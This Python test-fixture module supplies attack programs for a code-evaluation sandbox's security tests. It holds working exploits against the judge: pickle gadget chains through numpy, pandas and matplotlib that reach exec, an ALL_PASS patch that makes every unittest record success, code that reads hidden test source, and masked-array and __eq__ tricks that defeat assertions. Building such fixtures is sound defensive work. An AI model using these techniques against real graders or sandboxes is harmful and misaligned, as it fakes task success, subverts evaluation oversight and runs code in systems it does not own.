"""Attack programs for ``test_forged_intake.py``: programs that solve nothing and hand the split judge a forged
library object (issue 38).

The program owns its process. Whatever the sandbox's own code does there, the program can replace: these programs,
in their own module-level code, find the sandbox's program-side modules in ``sys.modules`` (by the tail of their
names, wherever the package is installed) and make them send, for an object of the program's ``Carrier`` class, a
mirror the program wrote by hand; or they wrap the program side's channel and splice a hand-written tree into the
answer. None of them needs the sandbox's cooperation: a design whose judge trusted the program's side of the
sandbox would be forged by them all.

Pieces (each is source text, joined into a program):

    KIT             the program side's tools: ``room`` (a sandbox module of this process), ``Carrier``, ``forge``
                    (send a hand-written mirror for a Carrier; ``sent``: a pickle where the judge expects the
                    mirror's data, whichever intake it runs), ``old_intake``, ``splice`` (replace the value MARKER
                    in what the channel sends), ``dotted``/``path_glob`` (a dotted name under a library's root that
                    leads to a class, found in this process: the judge's was forked from the same one), and a tiny
                    pickle assembler (``p_str``, ``p_glob``, ``p_call``, ``p_obj``, ``p_new``, ``p_build``,
                    ``p_ref``, ``p_pickle`` ...)
    ALL_PASS        code that, run in the judge, makes every test record "passed" (unittest's ``TestCase.run``,
                    and the result object of a test already running)

The attack programs follow, by cause (the table of ``test_forged_intake.py`` says what each forges).
"""

from __future__ import annotations

import textwrap

#: The program side's tools (see the module docstring). Plain standard library; no sandbox module is imported by name.
KIT = '''
import sys, gc, json, base64, pickle as _P, struct as _S


def room(tail):
    """The sandbox's own module of this process whose name ends with ``run.<tail>``."""
    for name, module in list(sys.modules.items()):
        if module is not None and name.endswith("sandbox.run." + tail):
            return module
    raise RuntimeError("the sandbox has no module " + tail + " in this process")


class Carrier:
    """What the program returns (or binds at module level) where it wants the judge to load its forged mirror."""


def forge(make):
    """Make the sandbox's side of this process send ``make(reference)`` as the mirror of every Carrier;
    ``reference(obj)`` is the sandbox's own way of sending an object of this process by reference."""
    standin = room("standin")
    mirrored, snapshot = standin.mirrored, standin.snapshot
    standin.mirrored = lambda cls: cls is Carrier or mirrored(cls)
    standin.snapshot = lambda obj, tagged, reference, *a, **k: (
        sent(make(reference)) if type(obj) is Carrier else snapshot(obj, tagged, reference, *a, **k))


def sent(pickled):
    """A pickle as the program side sends a mirror's data: the bytes themselves where the judge loads a pickle
    (4bfc896), else as the codec's bytes tree in the place of the mirror's data tree."""
    return pickled if old_intake() else ["b", b64(pickled)]


def dotted(root, target, depth=6):
    """A dotted name, under the module ``root``, that leads through module attributes to ``target`` (breadth first,
    through modules this process has loaded: the judge's process was forked from the same one)."""
    import inspect, types
    todo, seen = [(sys.modules[root], "")], set()
    while todo:
        module, path = todo.pop(0)
        for name, value in list(vars(module).items()):
            if name.startswith("__"):
                continue
            where = f"{path}.{name}" if path else name
            if value is target:
                return where
            if isinstance(value, types.ModuleType) and id(value) not in seen and where.count(".") < depth:
                seen.add(id(value))
                todo.append((value, where))
    raise RuntimeError(f"no way from {root} to {target!r}")


def path_glob(root, target):
    """``p_glob`` of ``target`` under the module ``root`` (see ``dotted``)."""
    return p_glob(root, dotted(root, target))


def old_intake():
    """Does the judge of this run load a pickle for a mirror (the intake of commit 4bfc896)?"""
    return hasattr(room("mirror"), "MAX_SNAPSHOT_BYTES")


MARKER = "forged value goes here"


def splice(make_tree):
    """Wrap the channel this process answers the judge on: wherever an answer holds the value MARKER, send the
    tree ``make_tree()`` instead (hand-made, whatever the program side's encoder would have sent)."""
    found = [o for o in gc.get_objects() if isinstance(getattr(o, "write_fd", None), int)
             and callable(getattr(type(o), "send", None)) and callable(getattr(type(o), "recv", None))]
    if len(found) != 1:
        raise RuntimeError(f"{len(found)} channels in this process")
    channel, send = found[0], found[0].send
    needle = json.dumps(MARKER)

    def forged(payload):
        text = payload.decode("utf-8", "surrogatepass")
        if needle in text:
            text = text.replace(needle, json.dumps(make_tree()))
            payload = text.encode("utf-8", "surrogatepass")
        return send(payload)

    channel.send = forged


def b64(data):
    return base64.b64encode(data).decode("ascii")


# A pickle assembler: each function returns the opcodes that leave one value on the unpickler's stack.
def p_str(text):
    data = text.encode("utf-8")
    return _P.BINUNICODE + _S.pack("<I", len(data)) + data

def p_bytes(data):
    return _P.BINBYTES + _S.pack("<I", len(data)) + data

def p_int(n):
    return _P.BININT + _S.pack("<i", n)

def p_glob(module, name):  # STACK_GLOBAL: find_class(module, name)
    return p_str(module) + p_str(name) + _P.STACK_GLOBAL

def p_tuple(*items):
    return _P.MARK + b"".join(items) + _P.TUPLE

def p_list(*items):
    return _P.EMPTY_LIST + _P.MARK + b"".join(items) + _P.APPENDS

def p_dict(**items):
    return _P.EMPTY_DICT + _P.MARK + b"".join(p_str(k) + v for k, v in items.items()) + _P.SETITEMS

def p_call(func, *args):  # REDUCE: func(*args)
    return func + p_tuple(*args) + _P.REDUCE

def p_obj(func, *args):  # OBJ: func(*args), no REDUCE
    return _P.MARK + func + b"".join(args) + _P.OBJ

def p_new(cls, *args):  # NEWOBJ: cls.__new__(cls, *args)
    return cls + p_tuple(*args) + _P.NEWOBJ

def p_build(target, attributes):  # BUILD with a slot state: setattr(target, name, value) for each
    return target + p_tuple(_P.NONE, attributes) + _P.BUILD

def p_ref(reference, obj):  # a persistent id: the program's object by reference (the sandbox's own reference)
    handle, claim, capabilities = reference(obj)
    return p_tuple(p_str("ref"), p_int(handle), p_list(*map(p_str, claim)), p_list(*map(p_str, capabilities))) \\
        + _P.BINPERSID

def p_pickle(*parts):
    return _P.PROTO + bytes([4]) + b"".join(parts) + _P.STOP

POP = _P.POP
NONE = _P.NONE
'''

#: Run in the judge (by exec), this makes every test record "passed": the tests still to run never run their body,
#: and the test running now (when this runs inside a call of the program) has its failure recorded as a success.
ALL_PASS = '''
import sys, unittest
def _passed(self, result=None):
    result.startTest(self)
    result.addSuccess(self)
    result.stopTest(self)
unittest.TestCase.run = _passed
frame = sys._getframe()
while frame is not None:
    result = frame.f_locals.get("result")
    if isinstance(result, unittest.TestResult):
        result.addFailure = result.addError = (lambda test, err, ok=result.addSuccess: ok(test))
    frame = frame.f_back
'''


def program(body: str) -> str:
    """The KIT, then ``body`` (dedented)."""
    return KIT + "\n" + textwrap.dedent(body).lstrip("\n")


def with_code(body: str, **code: str) -> str:
    """``program(body)`` with each ``NAME`` of ``code`` bound, as a string, before it (code to run in the judge)."""
    return program("".join(f"{name} = {text!r}\n" for name, text in code.items()) + textwrap.dedent(body).lstrip("\n"))


# ----------------------------------------------------------------------------- cause 1: dotted names reach exec

#: find_class walks a dotted name through module attributes and judges the root of the *written* name: numpy's
#: ``_core.overrides.inspect.attrgetter`` (numpy 2; ``core.shape_base.operator.itemgetter`` ... in numpy 1.24: the
#: program finds the names in its own process, see ``dotted``) is ``operator.attrgetter``, allowed because "numpy" is
#: a data library.
#: attrgetter/itemgetter then reach ``exec`` from a numpy class's ``__init__.__builtins__``.
NUMPY_EXEC_CHAIN = '''
import operator, numpy
AG = path_glob("numpy", operator.attrgetter)
IG = path_glob("numpy", operator.itemgetter)
def exec_in_judge(code, call=p_call, make=p_call):
    builtins_ = call(make(AG, p_str("__init__.__builtins__")), p_glob("numpy", "errstate"))
    return call(call(make(IG, p_str("exec")), builtins_), p_str(code), _P.EMPTY_DICT)
'''

#: BigCodeBench/757 (numpy): reverse the words of each string. The program returns a Carrier on each call.
NUMPY_ATTRGETTER_EXEC = with_code(NUMPY_EXEC_CHAIN + '''
forge(lambda reference: p_pickle(exec_in_judge(CODE)))
def task_func(arr):
    return Carrier()
''', CODE=ALL_PASS)

#: The same chain with no REDUCE: attrgetter/itemgetter made by NEWOBJ, every call made by OBJ.
NUMPY_ATTRGETTER_EXEC_NO_REDUCE = with_code(NUMPY_EXEC_CHAIN + '''
forge(lambda reference: p_pickle(exec_in_judge(CODE, call=p_obj, make=p_new)))
def task_func(arr):
    return Carrier()
''', CODE=ALL_PASS)

#: Cause 4: the names the tests read are fetched when the judge connects. 757's tests read ``result``: bound at
#: module level to a Carrier, the forged mirror runs before the first test; ``task_func`` returns nothing useful.
NUMPY_ATTRGETTER_EXEC_AT_CONNECT = with_code(NUMPY_EXEC_CHAIN + '''
forge(lambda reference: p_pickle(exec_in_judge(CODE)))
result = Carrier()
def task_func(arr):
    return None
''', CODE=ALL_PASS)

#: BigCodeBench/902 (pandas): pandas' ``_testing.operator.methodcaller``/``attrgetter``; exec from the builtins of
#: ``pandas.DataFrame.__init__``.
PANDAS_METHODCALLER_EXEC = with_code('''
import operator, pandas
AG = path_glob("pandas", operator.attrgetter)
MC = path_glob("pandas", operator.methodcaller)
builtins_ = p_call(p_call(AG, p_str("__init__.__builtins__")), p_glob("pandas", "DataFrame"))
exec_ = p_call(p_call(MC, p_str("__getitem__"), p_str("exec")), builtins_)
forge(lambda reference: p_pickle(p_call(exec_, p_str(CODE), _P.EMPTY_DICT)))
def task_func(d):
    return Carrier()
''', CODE=ALL_PASS)

#: BigCodeBench/142 (matplotlib): a mirrored library's root lets any class through that no mirrored code defines:
#: ``matplotlib.inspect.attrgetter``, ``matplotlib.cbook.operator.itemgetter``. Bound to ``line`` (a name the tests
#: read), it runs when the judge connects.
MATPLOTLIB_ATTRGETTER_EXEC_AT_CONNECT = with_code('''
import operator, matplotlib.pyplot
AG = path_glob("matplotlib", operator.attrgetter)
IG = path_glob("matplotlib", operator.itemgetter)
builtins_ = p_call(p_call(AG, p_str("__globals__")), p_glob("matplotlib.backend_bases", "_key_handler"))
builtins_ = p_call(p_call(IG, p_str("__builtins__")), builtins_)
forge(lambda reference: p_pickle(p_call(p_call(p_call(IG, p_str("exec")), builtins_), p_str(CODE), _P.EMPTY_DICT)))
line = Carrier()
def task_func():
    return None, None
''', CODE=ALL_PASS)

# ----------------------------------------------------------------------------- data read from the judge

#: The judge's copy of the tests' source (linecache's entry of its module, ``__test__.py``), read with no exec at
#: all: attrgetter/itemgetter from ``NpzFile.__init__.__globals__`` to ``os.sys.modules['linecache'].cache``, handed
#: by REDUCE to the program's own function (sent by reference); the mirror's value is then what the program's
#: ``_answer`` returns for the input ``task_func`` was given.
NUMPY_TEST_SOURCE_CHAIN = '''
import operator, numpy
AG = path_glob("numpy", operator.attrgetter)
IG = path_glob("numpy", operator.itemgetter)
NPZ_FILE = path_glob("numpy", numpy.lib.npyio.NpzFile)
LEAKED, ASKED = [], []
def _receive(entry):
    LEAKED.append("".join(entry[2]))
def _mirror(reference):
    globals_ = p_call(p_call(AG, p_str("__init__.__globals__")), NPZ_FILE)
    modules = p_call(p_call(AG, p_str("sys.modules")), p_call(p_call(IG, p_str("os")), globals_))
    cache = p_call(p_call(AG, p_str("cache")), p_call(p_call(IG, p_str("linecache")), modules))
    entry = p_call(p_call(IG, p_str("__test__.py")), cache)
    return p_pickle(p_call(p_ref(reference, _receive), entry), POP, p_call(p_ref(reference, _answer)))
forge(_mirror)
def task_func(arr):
    ASKED.append(arr)
    return Carrier()
'''

#: BigCodeBench/757: the program answers from the tests it read (each input's expected array, parsed from the
#: leaked source); it never reverses a word.
NUMPY_READS_THE_TESTS_AND_ANSWERS = program('''
import ast
import numpy as np
def _answer():
    if not LEAKED:
        raise RuntimeError("no test source reached the program")
    found = {}
    for node in ast.walk(ast.parse(LEAKED[-1])):
        if isinstance(node, ast.FunctionDef):
            values = {t.id: n.value for n in node.body if isinstance(n, ast.Assign)
                      for t in n.targets if isinstance(t, ast.Name)}
            if "arr" in values and "expected" in values:
                found[tuple(ast.literal_eval(values["arr"].args[0]))] = ast.literal_eval(values["expected"].args[0])
    return np.array(found[tuple(ASKED[-1].tolist())])
''' + NUMPY_TEST_SOURCE_CHAIN)

#: The same read, shown: the program puts what it received in its failure text.
NUMPY_READS_THE_TESTS_AND_SHOWS_THEM = program('''
def _answer():
    if LEAKED:
        raise RuntimeError("LEAKED " + LEAKED[-1][-300:])
    raise RuntimeError("no test source reached the program")
''' + NUMPY_TEST_SOURCE_CHAIN)

# ----------------------------------------------------------------------------- cause 2: REDUCE on any data-root class

#: BigCodeBench/902 (pandas): ``pandas.Series(NpzFile(BytesIO(zip), False, True))`` -- every class of numpy and
#: pandas may be called with any arguments; an NpzFile with ``allow_pickle=True`` read by the Series' constructor
#: reaches numpy's plain ``pickle.load``, which runs what the program put in the .npy file.
NUMPY_NPZFILE_PLAIN_PICKLE = with_code('''
import io
import numpy as np
class _Runs:
    def __reduce__(self):
        return exec, (CODE, {})
_held = np.empty(1, dtype=object)
_held[0] = _Runs()
_zip = io.BytesIO()
np.savez(_zip, x=_held)
NPZ = p_call(path_glob("numpy", np.lib.npyio.NpzFile), p_call(p_glob("_io", "BytesIO"), p_bytes(_zip.getvalue())),
             _P.NEWFALSE, _P.NEWTRUE)
forge(lambda reference: p_pickle(p_call(p_glob("pandas", "Series"), NPZ)))
def task_func(d):
    return Carrier()
''', CODE=ALL_PASS)

# ----------------------------------------------------------------------------- cause 3: BUILD on a class

#: BUILD with a slot state on a class found by find_class is ``setattr`` on that class: ``Counter.__eq__ = slice``,
#: after which every Counter equals anything (``slice(other)`` is truthy). The mirror itself is an empty Counter.
COUNTER_EQ_SLICE = '''
forge(lambda reference: p_pickle(
    p_build(p_glob("collections", "Counter"), p_dict(__eq__=p_glob("builtins", "slice"))), POP,
    p_call(p_glob("collections", "Counter"))))
'''

#: BigCodeBench/685 (standard library): merge lists and count; the program counts nothing.
BUILD_COUNTER_EQ_SLICE_685 = program(COUNTER_EQ_SLICE + '''
def task_func(list_of_lists):
    return Carrier()
''')

#: HumanEval/0: ``assert candidate(...) == True``, answered by an empty Counter.
BUILD_COUNTER_EQ_SLICE_HUMANEVAL_0 = program(COUNTER_EQ_SLICE + '''
def has_close_elements(numbers, threshold):
    return Carrier()
''')

#: HumanEval/0 again, through cause 4: the tests read ``candidate``; bound to a Carrier at module level, the BUILD
#: runs when the judge connects, and the entry point then returns plain data (an empty Counter).
BUILD_COUNTER_EQ_SLICE_HUMANEVAL_0_AT_CONNECT = program(COUNTER_EQ_SLICE + '''
import collections
candidate = Carrier()
def has_close_elements(numbers, threshold):
    return collections.Counter()
''')

#: ``Counter.__eq__`` set to the program's own function, sent by reference: every comparison of a Counter is
#: decided by the program, which is handed the test's expected value.
COUNTER_EQ_PROGRAM = '''
def _mirror(reference):
    return p_pickle(p_build(p_glob("collections", "Counter"), p_dict(__eq__=p_ref(reference, _decide))), POP,
                    p_call(p_glob("collections", "Counter")))
forge(_mirror)
def filter_by_prefix(strings, prefix):
    return Carrier()
'''

#: HumanEval/29: the program decides each ``candidate(...) == expected``.
BUILD_COUNTER_EQ_PROGRAM_DECIDES = program('''
def _decide(expected):
    return True
''' + COUNTER_EQ_PROGRAM)

#: HumanEval/29: the same, shown: the expected value the program was handed is in its failure text.
BUILD_COUNTER_EQ_PROGRAM_SEES_EXPECTED = program('''
def _decide(expected):
    raise ValueError("LEAKED " + repr(expected))
''' + COUNTER_EQ_PROGRAM)

# ----------------------------------------------------------------------------- cause 5 and design-agnostic attacks

#: BigCodeBench/757: an array of the input's shape, every element masked: ``assert_array_equal`` skips them all.
MASKED_757 = '''
import numpy as np
def task_func(arr):
    return np.ma.masked_all(arr.shape, dtype=arr.dtype)
'''
#: BigCodeBench/872: as many masked means as the longest tuple has items (the empty input: an empty list).
MASKED_872 = '''
import numpy as np
def task_func(data_list):
    if not data_list:
        return []
    return np.ma.masked_all(max(len(t) for t in data_list))
'''
#: BigCodeBench/749: as many masked values as the input.
MASKED_749 = '''
import numpy as np
def task_func(myList):
    return np.ma.masked_all(len(myList))
'''

#: BigCodeBench/142: a real figure with the right titles and labels whose lines plot fully masked y values: the
#: tests' ``assert_array_almost_equal(line.get_ydata(), np.sin(line.get_xdata()))`` skips every element.
MASKED_LINES_142 = '''
import numpy as np
import matplotlib.pyplot as plt
def task_func():
    x = np.linspace(0, 2 * np.pi, 400)
    fig, axs = plt.subplots(2)
    for ax, name, label in zip(axs, ("Sine function", "Cosine function"), ("sin(x)", "cos(x)")):
        ax.plot(x, np.ma.masked_all(x.shape))
        ax.set_title(name)
        ax.set_xlabel("x")
        ax.set_ylabel(label)
    return fig, axs
'''

#: BigCodeBench/142: a real figure whose lines plot zeros, each line's ``get_ydata`` replaced in its own dict by a
#: library callable (no code of the program's): ``functools.partial(np.ma.MaskedArray, zeros, True)``, a fully
#: masked array.
SHADOWED_GET_YDATA_142 = '''
import functools
import numpy as np
import matplotlib.pyplot as plt
def task_func():
    x = np.linspace(0, 2 * np.pi, 400)
    fig, axs = plt.subplots(2)
    for ax, name, label in zip(axs, ("Sine function", "Cosine function"), ("sin(x)", "cos(x)")):
        line, = ax.plot(x, np.zeros(x.shape))
        line.get_ydata = functools.partial(np.ma.MaskedArray, np.zeros(x.shape), True)
        ax.set_title(name)
        ax.set_xlabel("x")
        ax.set_ylabel(label)
    return fig, axs
'''

#: BigCodeBench/757, on the wire: the answer's tree replaced by a hand-made masked array of the input's shape
#: (its data zeros, its mask all set), whatever the program side's encoder would send.
WIRE_MASKED_TREE_757 = program('''
import numpy as np
SHAPE = []
def _masked():
    dtype, shape = SHAPE[-1]
    data = np.zeros(shape, dtype=dtype)
    return ["ma", ["nd", data.dtype.str, list(shape), b64(data.tobytes())],
            ["nd", "|b1", list(shape), b64(np.ones(shape, dtype=bool).tobytes())]]
splice(_masked)
def task_func(arr):
    SHAPE.append((arr.dtype, arr.shape))
    return MARKER
''')

#: BigCodeBench/685, on the wire: the answer replaced by a hand-made mirror that claims ``collections.Counter`` and
#: sets ``__eq__`` on that class (the intake of 4bfc896: a pickle; the tree intake: an object listed under
#: ``collections:Counter`` with ``__eq__`` in its state), whatever the program side's mirror code would send.
WIRE_MIRROR_CLAIMING_COUNTER_685 = program('''
def _mirror():
    if old_intake():
        data = ["b", b64(p_pickle(p_build(p_glob("collections", "Counter"), p_dict(__eq__=p_glob("builtins", "slice"))),
                                  POP, p_call(p_glob("collections", "Counter"))))]
    else:
        data = ["mirror", ["r", "obj", 1],
                [[1, "collections:Counter", ["d", ["__eq__", ["r", "fn", "builtins:slice"]]], None, None, None]]]
    return ["r", "mirror", 1, ["collections", "Counter"], ["__len__", "__iter__", "__getitem__"], data]
splice(_mirror)
def task_func(list_of_lists):
    return MARKER
''')

# ----------------------------------------------------------------------------- beyond the mirrors: shared state

#: The shared state the judge applies from the program's messages: the random states are meant to cross judge to
#: program only (``sends = {"judge"}``), but that is the program side's own rule; the judge applies what comes.
#: The program flips its side's rule, reseeds both generators after its call, and its states become the tests'.
STEERS_THE_TESTS_RANDOM = program('''
import random
import numpy as np
room("shared")._GlobalGenerator.sends = frozenset({"judge", "program"})
def task_func():
    random.seed(0)
    np.random.seed(0)
    return None
''')
